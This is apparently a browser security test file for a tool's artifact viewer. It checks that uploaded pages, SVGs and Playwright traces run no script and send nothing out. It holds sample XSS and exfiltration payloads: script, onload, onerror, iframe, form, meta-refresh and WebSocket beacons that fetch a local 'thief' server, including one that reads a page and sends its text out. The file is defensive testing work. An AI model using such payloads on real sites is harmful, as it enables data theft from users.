"""Artifacts in a real browser: what targets sent runs nothing, reads nothing, and sends nothing away."""

from __future__ import annotations

import base64
import gzip
import html
import http.server
import json
import re
import threading
import zipfile
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urlsplit

import httpx
import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import expect
from tests.builders import run_of

from outrider.journeys import trace_viewer_folder
from outrider.model import ArtifactFile, ArtifactKind, Measurement, Outcome
from outrider.server import ArtifactOrigin, Background, application, listen

from .conftest import MINUTE_US, NOW_US
from .error_scene import declined
from .test_run_page import PIXEL

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Page

    from outrider.model import Run

    from .conftest import Scene

pytestmark = pytest.mark.browser

FILM = base64.b64decode(
    "GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQJChYECGFOAZwEAAAAAAAH9EU2bdLpNu4tTq4QVSalmU6yBoU27i1OrhBZUrmtTrIHYTb"
    "uMU6uEElTDZ1OsggEeTbuMU6uEHFO7a1OsggHn7AEAAAAAAABZAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAVSalmsirXsYMPQkBNgI1MYXZmNTkuMjcuMTAwV0GNTGF2ZjU5Lj"
    "I3LjEwMESJiEBpAAAAAAAAFlSua8GuAQAAAAAAADjXgQFzxYiA66gb39rLwpyBACK1nIN1bmSIgQCGhVZfVlA4g4EBI+ODhAvrwgDgibCBELqB"
    "EJqBAhJUw2f9c3OgY8CAZ8iaRaOHRU5DT0RFUkSHjUxhdmY1OS4yNy4xMDBzc9djwItjxYiA66gb39rLwmfIoUWjh0VOQ09ERVJEh5RMYXZjNT"
    "kuMzcuMTAwIGxpYnZweGfIokWjiERVUkFUSU9ORIeUMDA6MDA6MDAuMjAwMDAwMDAwAAAfQ7Z1wueBAKO9gQAAgPACAJ0BKhAAEAAARwiFhYiF"
    "hIgCAgJ1qgP4A/oCDU0YAP79bvP/45k3MMT/jm3/8WE8DijI//FRABxTu2uRu4+zgQC3iveBAfGCAaDwgQM="
)
"""A film of one picture, VP8 in WebM."""


@dataclass
class Thief:
    """A server that would take what a hostile file sends to it."""

    address: str = ""
    visits: list[str] = field(default_factory=list)


@pytest.fixture
def thief() -> Iterator[Thief]:
    taken = Thief()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            taken.visits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the library's name

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    taken.address = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield taken
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    opened = chromium.new_context()
    yield opened
    opened.close()


@pytest.fixture
def address(scene: Scene) -> Iterator[str]:
    """The address of pages, with an origin of their artifacts."""
    origin = ArtifactOrigin(scene.store.artifacts, b"k" * 32, viewer=trace_viewer_folder())
    pages = application(scene.store.heartbeats, None, lambda: NOW_US, scene.sources, artifacts=origin)
    listener = listen("127.0.0.1", 0)
    background = Background(pages, listener)
    yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    background.close()


def test_attachments_of_events_are_saved_and_never_shown(scene: Scene, address: str, tmp_path: Path) -> None:
    """Markup that a client attached comes as bytes, from the other origin; the API tells its name and size."""
    content = b"<script>alert(1)</script>"
    (tmp_path / "page").write_bytes(content)
    scene.store.errors.add([declined(1)])
    scene.store.attachments.add(declined(1).id, [("<b>page.html", "text/html", tmp_path / "page")])

    page = httpx.get(f"{address}/errors/1").text
    body = httpx.get(f"{address}/api/v1/error-events/{declined(1).id}").json()
    link = re.search(r'href="([^"]+/file/[^"]+)" download', page)
    assert link is not None
    parts = urlsplit(html.unescape(link[1]))
    answer = httpx.get(address + parts.path, headers={"Host": parts.netloc})  # resolvers know no names below localhost

    assert "<bdi>&lt;b&gt;page.html</bdi>" in page
    assert body["attachments"] == [{"name": "<b>page.html", "media_type": "text/html", "bytes": len(content)}]
    assert (answer.content, answer.headers["content-type"]) == (content, "application/octet-stream")
    assert answer.headers["content-disposition"].startswith('attachment; filename="_b_page.html"')
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert not link[1].startswith(address)


def run_with(scene: Scene, folder: Path, files: dict[str, tuple[ArtifactKind, str, bytes]]) -> Run:
    """Store a failed run with files by name: kind, the type that the target names, and content."""
    kept = []
    for name, (kind, media_type, content) in files.items():
        (folder / name).write_bytes(content)
        kept.append(ArtifactFile(kind, name, media_type, folder / name))
    measurement = Measurement(Outcome.FAILED, "no", NOW_US - MINUTE_US, 100.0, artifacts=tuple(kept))
    run = run_of(measurement, scene.add("shop").id)
    scene.store.runs.record(run)
    return run


def hostile_page(thief: Thief) -> bytes:
    """Markup that runs, reads and sends in every way that needs no click."""
    out = f"{thief.address}/stolen"
    return f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head>
    <meta http-equiv="refresh" content="0;url={out}?refresh">
    <link rel="stylesheet" href="{out}?style"><style>body {{ background: url({out}?background) }}</style></head>
    <body onload="fetch('{out}?handler')"><script>document.title = "ran"; fetch("{out}?script");
    fetch("/trace/index.html").then((page) => page.text()).then((text) => fetch("{out}?read=" + text));
    </script><img src="{out}?image" onerror="fetch('{out}?error')"/><iframe src="{out}?frame"></iframe>
    <object data="{out}?object"></object><form action="{out}?form" id="f"></form>
    </body></html>""".encode()


def hostile_picture(thief: Thief) -> bytes:
    out = f"{thief.address}/stolen"
    return f"""<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{out}?svg')">
    <script>fetch("{out}?script")</script>
    <image href="{out}?image"/></svg>""".encode()


def links(page: Page) -> dict[str, str]:
    """Return the links of the list of artifacts, by their text."""
    found = page.locator("section[aria-labelledby=artifacts] li a")
    return {link.inner_text(): str(link.get_attribute("href")) for link in found.all()}


def test_hostile_files_run_nothing_and_read_nothing(
    context: BrowserContext, scene: Scene, address: str, tmp_path: Path, thief: Thief
) -> None:
    """Pages, pictures, archives of requests and bodies, whatever their names and types say."""
    page, picture = hostile_page(thief), hostile_picture(thief)
    run = run_with(scene, tmp_path, {
        "shot.png": (ArtifactKind.SCREENSHOT, "image/svg+xml", picture),
        "shot.svg": (ArtifactKind.SCREENSHOT, "image/svg+xml", picture),
        "shot.html": (ArtifactKind.SCREENSHOT, "image/png", page),
        "video.webm": (ArtifactKind.VIDEO, "text/html", page),
        "body.html": (ArtifactKind.BODY, "text/html", page),
        "body.svg": (ArtifactKind.BODY, "image/svg+xml", picture),
        "output.log": (ArtifactKind.LOG, "text/html", page),
        "run.har": (ArtifactKind.HAR, "text/html", page),
        "packed.har.gz": (ArtifactKind.HAR, "text/html", gzip.compress(page, mtime=0)),
        "trace.html": (ArtifactKind.TRACE, "text/html", page),
    })  # fmt: skip
    first = context.new_page()
    first.set_content(page.decode())
    first.wait_for_url(f"{thief.address}/**")
    has_bait = len(thief.visits) > 3
    thief.visits.clear()
    first.goto(f"{address}/runs/{run.id}")
    opened = links(first)

    shown, saved = {}, []
    for name, href in opened.items():
        tab = context.new_page()
        try:
            tab.goto(href)
            shown[name] = tab.title()
        except PlaywrightError as error:
            saved.append("Download is starting" in error.message)
        tab.close()

    assert has_bait
    assert len(opened) == 10
    assert "ran" not in shown.values()
    assert saved == [True] * 6
    assert set(shown) == {"shot.png", "video.webm", "body.html", "output.log"}
    assert thief.visits == []


def test_a_file_opened_in_the_browser_has_no_origin(
    context: BrowserContext, scene: Scene, address: str, tmp_path: Path
) -> None:
    """So that it could not read the others of its origin, even if it ran something."""
    run = run_with(scene, tmp_path, {"output.log": (ArtifactKind.LOG, "text/plain", b"hello")})
    page = context.new_page()
    page.goto(f"{address}/runs/{run.id}")

    page.goto(links(page)["output.log"])

    assert page.evaluate("self.origin") == "null"
    assert page.locator("body").inner_text() == "hello"


def test_pages_serve_no_artifact_and_artifacts_no_page(
    context: BrowserContext, scene: Scene, address: str, tmp_path: Path
) -> None:
    """A signed address leads nowhere at the origin of pages, nor a page's at the other."""
    run = run_with(scene, tmp_path, {"output.log": (ArtifactKind.LOG, "text/plain", b"hello")})
    page = context.new_page()
    page.goto(f"{address}/runs/{run.id}")
    href = links(page)["output.log"]
    origin, _, token = href.partition("/file/")

    named = {"Host": origin.removeprefix("http://")}
    answers = [httpx.get(f"{address}{path}").status_code for path in (f"/file/{token}", "/trace/index.html")]
    others = [
        httpx.get(f"{address}{path}", headers=named).status_code
        for path in (f"/runs/{run.id}", "/", "/healthz", "/api/v1/runs", "/heartbeat/x", f"/file/{token}")
    ]

    assert origin.startswith("http://artifacts.localhost:")
    assert answers == [404, 404]
    assert others == [404, 404, 404, 404, 404, 200]


def test_addresses_are_signed_for_viewers_only(scene: Scene, address: str, tmp_path: Path) -> None:
    """Who has to sign in reads no address of a file, and no cookie is asked for or set where files are."""
    run = run_with(scene, tmp_path, {"output.log": (ArtifactKind.LOG, "text/plain", b"hello")})

    seen = httpx.get(f"{address}/runs/{run.id}")
    closed = httpx.get(f"{address}/runs/{run.id}", headers={"X-Forwarded-For": "192.0.2.1"})
    token = seen.text.partition("/file/")[2].partition('"')[0]
    host = {"Host": f"artifacts.localhost:{address.rpartition(':')[2]}"}
    file = httpx.get(f"{address}/file/{token}", headers={**host, "Cookie": "outrider=stolen"})

    assert (seen.status_code, closed.status_code) == (200, 403)
    assert "/file/" not in closed.text
    assert (file.status_code, file.text) == (200, "hello")
    assert "set-cookie" not in file.headers


def test_pictures_and_videos_of_the_other_origin_are_shown_on_the_page(
    context: BrowserContext, scene: Scene, address: str, tmp_path: Path
) -> None:
    """A large picture comes from there; the page's own policy lets nothing else in."""
    page = context.new_page()
    picture = page.screenshot() + b"\0" * 200_000
    run = run_with(scene, tmp_path, {
        "large.png": (ArtifactKind.SCREENSHOT, "image/png", picture),
        "small.png": (ArtifactKind.SCREENSHOT, "image/png", PIXEL),
        "video.webm": (ArtifactKind.VIDEO, "video/webm", FILM),
    })  # fmt: skip
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))

    page.goto(f"{address}/runs/{run.id}")
    page.locator("img").last.scroll_into_view_if_needed()
    page.wait_for_function("[...document.images].every((image) => image.complete)")
    page.wait_for_function("document.querySelector('video').readyState >= 1")

    assert page.evaluate("[...document.images].map((image) => image.naturalWidth)") == [1280, 1]
    assert page.evaluate("[...document.images].map((image) => image.src.slice(0, 15))")[1] == "data:image/png;"
    assert page.evaluate("document.querySelector('video').videoWidth") > 0
    assert complaints == []


def recorded_trace(context: BrowserContext, path: Path) -> bytes:
    """Return a trace of a few actions."""
    context.tracing.start(screenshots=True, snapshots=True)
    page = context.new_page()
    page.goto("data:text/html,<title>shop</title><button onclick=\"this.textContent='Paid'\">Pay</button>")
    page.get_by_role("button", name="Pay").click()
    expect(page.get_by_role("button")).to_have_text("Paid")
    page.close()
    context.tracing.stop(path=path)
    return path.read_bytes()


@pytest.mark.skipif(trace_viewer_folder() is None, reason="this Playwright has no trace viewer where it is expected")
def test_the_trace_viewer_shows_the_actions_of_a_trace(
    chromium: Browser, scene: Scene, address: str, tmp_path: Path
) -> None:
    """From the run's page, with what is installed here: nothing is asked of any other server."""
    recording = chromium.new_context()
    trace = recorded_trace(recording, tmp_path / "recorded.zip")
    recording.close()
    run = run_with(scene, tmp_path, {"trace.zip": (ArtifactKind.TRACE, "application/zip", trace)})
    context = chromium.new_context()
    asked: list[str] = []
    complaints: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.on("console", lambda message: complaints.append(message.text))
    page.goto(f"{address}/runs/{run.id}")

    page.goto(links(page)["Open trace"])
    expect(page.get_by_text("Click", exact=False).first).to_be_visible(timeout=30_000)
    page.get_by_text("Click", exact=False).first.click()
    picture = page.frame_locator("iframe.snapshot-visible")
    expect(picture.get_by_role("button")).to_be_visible(timeout=30_000)

    port = address.rpartition(":")[2]
    assert [url for url in asked if f":{port}/" not in url and not url.startswith(("data:", "blob:"))] == []
    assert [text for text in complaints if "Content Security Policy" in text] == []
    context.close()


BAITS = (
    "document.querySelector('#away').click()",
    "location.href = document.querySelector('#away').href",
    "location.href = document.querySelector('#data').href",
    "location.href = '/trace/file/resources/bait.html' + location.search",  # as if it knew the address of its trace
    "document.querySelector('form').submit()",
)
"""What the frame of a hostile picture might be made to do."""


def hostile_trace(template: bytes, thief: Thief, target: Path) -> bytes:
    """Return a trace whose pictures of pages hold what a hostile page would like to keep in them."""
    out = f"{thief.address}/stolen"
    bait = [
        ["IMG", {"src": f"{out}?image", "onerror": f"fetch('{out}?error')"}],
        ["SCRIPT", {}, f"fetch('{out}?script')"],
        ["script\n", {}, f"fetch('{out}?script2')"],
        ["IFRAME", {"src": f"{out}?frame", "srcdoc": f"<script>fetch('{out}?srcdoc')</script>"}],
        ["OBJECT", {"data": f"{out}?object"}],
        ["EMBED", {"src": f"{out}?embed"}],
        ["META", {"http-equiv": "refresh", "content": f"0;url={out}?refresh"}],
        ["LINK", {"rel": "stylesheet", "href": f"{out}?style"}],
        ["LINK", {"rel": "prefetch", "href": f"{out}?prefetch"}],
        ["STYLE", {}, f"body {{ background: url({out}?background) }}"],
        ["A", {"href": f"{out}?link", "id": "away"}, "away"],
        ["A", {"href": f"data:text/html,<script>fetch('{out}?data')</script>", "id": "data"}, "data"],
        ["A", {"href": "/trace/file/bait.html?path=1", "id": "file"}, "file"],
        ["FORM", {"action": f"{out}?form"}, ["INPUT", {"type": "submit", "id": "send", "value": "send"}]],
        ["VIDEO", {"src": f"{out}?video", "autoplay": ""}],
        ["svg", {"onload": f"fetch('{out}?svg')"}, ["use", {"href": f"{out}?use#a"}]],
    ]
    (target.parent / "template.zip").write_bytes(template)
    with (
        zipfile.ZipFile(target.parent / "template.zip") as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for name in source.namelist():
            content = source.read(name)
            if name.endswith(".trace"):
                lines = [json.loads(line) for line in content.splitlines()]
                for line in lines:
                    if line["type"] == "frame-snapshot":
                        line["snapshot"]["html"] = ["HTML", {}, ["HEAD", {}], ["BODY", {"onload": "alert(1)"}, *bait]]
                content = b"\n".join(json.dumps(line).encode() for line in lines)
            copy.writestr(name, content)
        copy.writestr("resources/bait.html", f"<script>new WebSocket('{out.replace('http', 'ws', 1)}?file')</script>")
    return target.read_bytes()


@pytest.mark.skipif(trace_viewer_folder() is None, reason="this Playwright has no trace viewer where it is expected")
def test_a_hostile_trace_runs_nothing_and_sends_nothing(
    chromium: Browser, scene: Scene, address: str, tmp_path: Path, thief: Thief
) -> None:
    """Neither what it holds, nor links, forms and files, even where something made the frame follow them."""
    recording = chromium.new_context()
    template = recorded_trace(recording, tmp_path / "recorded.zip")
    recording.close()
    trace = hostile_trace(template, thief, tmp_path / "hostile.zip")
    run = run_with(scene, tmp_path, {"trace.zip": (ArtifactKind.TRACE, "application/zip", trace)})
    context = chromium.new_context()
    page = context.new_page()
    page.goto(f"{address}/runs/{run.id}")

    page.goto(links(page)["Open trace"])
    page.get_by_text("Click", exact=False).first.click(timeout=30_000)
    picture = page.frame_locator("iframe.snapshot-visible")
    for bait in BAITS:
        picture.locator("#away").evaluate(f"(element) => {{ setTimeout(() => {{ {bait} }}); }}", timeout=30_000)
        page.wait_for_load_state("networkidle")
        page.reload()
        page.get_by_text("Click", exact=False).first.click(timeout=30_000)
        expect(picture.locator("#away")).to_be_visible(timeout=30_000)

    assert thief.visits == []
    context.close()


@pytest.mark.skipif(trace_viewer_folder() is None, reason="this Playwright has no trace viewer where it is expected")
def test_the_trace_viewer_opens_no_trace_of_another_server(context: BrowserContext, address: str, thief: Thief) -> None:
    """A link that somebody else made loads nothing from there."""
    port = address.rpartition(":")[2]
    page = context.new_page()

    page.goto(f"http://artifacts.localhost:{port}/trace/index.html?trace={thief.address}/trace.zip")
    expect(page.get_by_text("Could not load trace", exact=False)).to_be_visible(timeout=30_000)

    assert thief.visits == []
    assert unquote(page.url).startswith("http://artifacts.localhost")
